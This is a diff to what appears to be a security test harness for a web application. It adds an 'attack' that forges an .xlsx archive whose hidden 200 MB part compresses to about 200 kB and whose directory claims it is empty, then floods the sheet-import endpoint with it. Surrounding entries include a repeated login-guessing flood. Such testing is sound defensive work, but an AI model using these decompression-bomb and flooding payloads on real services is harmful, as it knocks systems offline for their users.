@@ -1,5 +1,6 @@
 import { request } from 'node:http';
 import { connect } from 'node:net';
+import { forgeArchive } from '@server/imports/testing/forgeArchive';
 import { WebSocket } from 'ws';
 
 /** The server that is attacked, and the account that an attack may use. */
@@ -41,6 +42,23 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
         body: Buffer.from(`username=nguoi-${n % 300}&password=sai-mat-khau`),
       });
     });
+  },
+  V9_hiddenParts: async ({ url, scheme, viewer }, signal) => {
+    // A part of 200 MB that packs to 200 kB, and a directory that says it is empty.
+    const data = new Uint8Array(200_000_000);
+    const central = { flags: 8, packedSize: 0, size: 0, crc: 0 };
+    const body = forgeArchive([{ name: 'xl/sharedStrings.xml', data, local: { flags: 8 }, central }]);
+    await repeat(WORKERS, signal, () =>
+      send(url, `/schemes/${scheme}/imports/sheets?name=a.xlsx`, {
+        headers: {
+          cookie: viewer,
+          origin: url,
+          'content-type': 'application/octet-stream',
+          'content-length': body.length,
+        },
+        body,
+      }),
+    );
   },
   V11_workbooks: async ({ url, scheme, viewer }, signal) => {
     await repeat(40, signal, () =>
